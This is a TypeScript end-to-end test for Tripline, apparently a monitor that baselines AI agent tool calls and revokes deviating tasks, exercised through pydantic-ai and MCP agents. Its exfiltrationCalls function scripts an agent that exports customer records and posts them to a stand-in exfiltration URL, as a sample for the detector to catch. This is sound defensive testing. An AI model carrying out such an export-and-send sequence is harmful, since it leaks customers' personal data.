/**
 * The Python agent kit (`kits/python`, the `tripline` wheel installed with pip the way a user installs it; see
 * test/helpers/python-kit.ts) against Tripline started as `npm start` does, for two integrations:
 *
 * - pydantic_ai: a pydantic-ai agent (scripted `FunctionModel`, pydantic-ai's own instrumentation) with the kit's
 *   `TriplineGuard` capability (kits/python/tests/e2e/pydantic_ai_agent.py);
 * - mcp: an MCP client (the official `mcp` package) whose session is wrapped by `guard_mcp_session`, against a real
 *   MCP server started over stdio (kits/python/tests/e2e/mcp_agent.py, mcp_server.py).
 *
 * First the kit's unit tests run in the same environment (kits/python/tests/unit: the SSE parser, the guard against a
 * local stand-in of the API, the task context, the MCP session against an in-process server).
 *
 * For each, with an agent and a task type of its own: benign warm-up tasks until the type has its baseline, then a
 * mixed run: benign tasks, and one that exfiltrates (exports the customers, then `http_post` to a host the type never
 * saw, a tool it never used), waits for Tripline to revoke it and makes one more call (a refund). Expected: the
 * detector revokes that task; its next call raises `TaskRevokedError` and never runs (pydantic-ai: the tool function
 * did not run; MCP: the server never received it); the guard acknowledged the revocation and Tripline verified the
 * agent stopped (no event of the task after it); every benign task ran all its calls, completed and was not revoked.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXFIL_URL, VERDICT_MS, baselineView, benignCalls, getJson, rng, taskView } from '../helpers/agent-plans.ts';
import type { BaselineView, Call, TaskView } from '../helpers/agent-plans.ts';
import { TEST_AGENT_TOKEN, TEST_AUTH_ENV } from '../helpers/auth.ts';
import { KIT_DIR, kitPython, runKitModule, runKitScript } from '../helpers/python-kit.ts';
import { startTriplineProcess } from '../helpers/tripline-process.ts';
import type { TriplineProcess } from '../helpers/tripline-process.ts';
import { waitFor } from '../helpers/wait.ts';

const INTEGRATIONS = ['pydantic_ai', 'mcp'] as const;
type Integration = (typeof INTEGRATIONS)[number];
type Label = 'benign' | 'exfiltration';

const WARMUP_TASKS = 15;
const WARMUP_RUN = 18;
const MIXED_BENIGN = 4;
/** The call the exfiltrating task makes once revoked: it must be refused. */
const AFTER_REVOCATION: Call = { tool: 'issue_refund', args: { order_id: 'ord-after-revocation', amount: 1 } };

interface PlannedTask {
  label: Label;
  taskType: string;
  calls: Call[];
  afterRevocation?: Call;
}

/** One line of an agent's stdout (kits/python/tests/e2e/plan.py). */
interface Outcome {
  label: Label;
  taskId: string;
  ran: Call[];
  refused: { tool: string; code: string; revocationId: string; reason: string } | null;
  waitedMs: number | null;
}

interface RevocationView {
  id: string;
  taskId: string;
  source: string;
  action: string;
  verification: { outcome: string; acknowledgedAt: string | null; failures: unknown[] } | null;
}

function exfiltrationCalls(): Call[] {
  return [
    { tool: 'get_order', args: { order_id: 'ord-17' } },
    { tool: 'export_customers', args: { limit: 50 } },
    { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example\n...' } },
  ];
}

describe('the Python kit (tripline wheel) against Tripline', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-pykit-'));
  const workDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-pykit-plans-'));
  const runId = Date.now().toString(36);
  let tripline: TriplineProcess;

  beforeAll(async () => {
    // The first run makes the kit's venv from PyPI (a minute or so); later runs rebuild and reinstall the wheel only.
    await kitPython();
    tripline = await startTriplineProcess({
      ...TEST_AUTH_ENV,
      TRIPLINE_DATA_DIR: dataDir,
      TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
      TRIPLINE_VERIFY_WINDOW_MS: '1500',
      LOG_LEVEL: 'warn',
    });
  }, 20 * 60_000);

  afterAll(async () => {
    await tripline.stop();
    rmSync(dataDir, { recursive: true, force: true });
    rmSync(workDir, { recursive: true, force: true });
  });

  const task = (id: string): Promise<TaskView | undefined> => taskView(tripline.apiUrl, id);

  it("passes the kit's own unit tests (kits/python/tests/unit) in the installed wheel's environment", async () => {
    const { stderr } = await runKitModule(
      ['-m', 'unittest', 'discover', '-s', join(KIT_DIR, 'tests', 'unit'), '-t', join(KIT_DIR, 'tests')],
      120_000,
    );
    expect(stderr).toMatch(/^OK$/m);
  }, 180_000);

  async function runAgent(integration: Integration, phase: string, plan: PlannedTask[]): Promise<Outcome[]> {
    const planFile = join(workDir, `${integration}-${phase}.json`);
    writeFileSync(planFile, JSON.stringify(plan));
    const args = [
      '--endpoint',
      tripline.otlpUrl,
      '--api',
      tripline.apiUrl,
      '--token',
      TEST_AGENT_TOKEN,
      '--agent',
      `kit-${integration}-agent-${runId}`,
      '--plan',
      planFile,
    ];
    if (integration === 'mcp') args.push('--server-log', join(workDir, 'mcp-server-calls.jsonl'));
    const { stdout } = await runKitScript(`${integration}_agent.py`, args, {}, 180_000);
    const outcomes = stdout
      .split('\n')
      .filter((line) => line.startsWith('{'))
      .map((line) => JSON.parse(line) as Outcome);
    expect(outcomes.map((outcome) => outcome.label)).toEqual(plan.map((planned) => planned.label));
    return outcomes;
  }

  for (const integration of INTEGRATIONS) {
    describe(integration, () => {
      const taskType = `refund_kit_${integration}`;
      const next = rng(INTEGRATIONS.indexOf(integration) + 41);
      const benign = (): PlannedTask => ({ label: 'benign', taskType, calls: benignCalls(next) });
      let warmup: Outcome[] = [];
      let mixed: Outcome[] = [];
      let mixedPlan: PlannedTask[] = [];
      const attackOf = (): Outcome => {
        const attack = mixed.find((outcome) => outcome.label === 'exfiltration');
        if (attack === undefined) throw new Error('the mixed phase did not run');
        return attack;
      };

      it(
        `runs ${String(WARMUP_RUN)} benign warm-up tasks and the type reaches its baseline`,
        async () => {
          warmup = await runAgent(
            integration,
            'warmup',
            Array.from({ length: WARMUP_RUN }, () => benign()),
          );
          let last: BaselineView | undefined;
          await waitFor(
            `the baseline of ${taskType}`,
            async () => {
              last = await baselineView(tripline.apiUrl, taskType);
              return last !== undefined && last.tasks >= WARMUP_TASKS;
            },
            VERDICT_MS,
            250,
          );
          expect(last?.regime).toBe('type_baseline');
        },
        5 * 60_000,
      );

      it(
        'refuses the next call of the exfiltrating task once Tripline revoked it, and runs the benign tasks',
        async () => {
          mixedPlan = Array.from({ length: MIXED_BENIGN }, () => benign());
          mixedPlan.splice(2, 0, {
            label: 'exfiltration',
            taskType,
            calls: exfiltrationCalls(),
            afterRevocation: AFTER_REVOCATION,
          });
          mixed = await runAgent(integration, 'mixed', mixedPlan);
          const attack = attackOf();
          expect(attack.refused, JSON.stringify(attack)).toMatchObject({ code: 'TASK_REVOKED', tool: 'issue_refund' });
          expect(attack.refused?.revocationId).toMatch(/^[0-9a-f]{32}$/);
          // Everything before the refused call ran; the refused call did not.
          expect(attack.ran).toEqual(exfiltrationCalls());
          for (const [index, outcome] of mixed.entries()) {
            if (outcome.label !== 'benign') continue;
            expect(outcome.refused, JSON.stringify(outcome)).toBeNull();
            expect(outcome.ran).toEqual(mixedPlan[index]?.calls);
          }
          if (integration === 'mcp') {
            // The server's own log: every call that reached it. The refused one never did.
            const served = readFileSync(join(workDir, 'mcp-server-calls.jsonl'), 'utf8')
              .trim()
              .split('\n')
              .map((line) => JSON.parse(line) as Call);
            expect(served.filter((call) => call.args.order_id === AFTER_REVOCATION.args.order_id)).toEqual([]);
            expect(served.filter((call) => call.tool === 'http_post')).toHaveLength(1);
            const planned = [...warmup, ...mixed].flatMap((outcome) => outcome.ran);
            expect(served).toHaveLength(planned.length);
          }
        },
        5 * 60_000,
      );

      it(
        'the detector revoked it, the guard acknowledged and Tripline verified the agent stopped',
        async () => {
          const attack = attackOf();
          const view = await task(attack.taskId);
          expect(view?.status, JSON.stringify(view)).toBe('revoked');
          const revocation = await waitFor(
            `the verification of ${attack.taskId}'s revocation`,
            async () => {
              const found = (await getJson(
                `${tripline.apiUrl}/v1/revocations/${attack.refused?.revocationId ?? ''}`,
              )) as RevocationView | undefined;
              return found?.verification?.outcome === 'pending' ? undefined : found;
            },
            30_000,
            250,
          );
          expect(revocation.taskId).toBe(attack.taskId);
          expect(revocation.source).toBe('detector');
          expect(revocation.verification?.acknowledgedAt, JSON.stringify(revocation)).not.toBeNull();
          expect(revocation.verification?.outcome, JSON.stringify(revocation)).toBe('verified');
        },
        2 * 60_000,
      );

      it(
        'completes every benign task and revokes none',
        async () => {
          const benignTasks = [...warmup, ...mixed].filter((outcome) => outcome.label === 'benign');
          expect(benignTasks).toHaveLength(WARMUP_RUN + MIXED_BENIGN);
          const views = new Map<string, TaskView | undefined>();
          await waitFor(
            `the ${String(benignTasks.length)} benign tasks of ${taskType} to complete`,
            async () => {
              for (const outcome of benignTasks) {
                if (views.get(outcome.taskId)?.status !== 'completed')
                  views.set(outcome.taskId, await task(outcome.taskId));
              }
              return benignTasks.every((outcome) => {
                const status = views.get(outcome.taskId)?.status;
                return status === 'completed' || status === 'revoked';
              });
            },
            VERDICT_MS,
            500,
          );
          const notCompleted = benignTasks
            .filter((outcome) => views.get(outcome.taskId)?.status !== 'completed')
            .map((outcome) => JSON.stringify(views.get(outcome.taskId) ?? `${outcome.taskId}: 404`));
          expect(notCompleted, 'benign tasks not completed').toEqual([]);
        },
        2 * 60_000,
      );
    });
  }
});
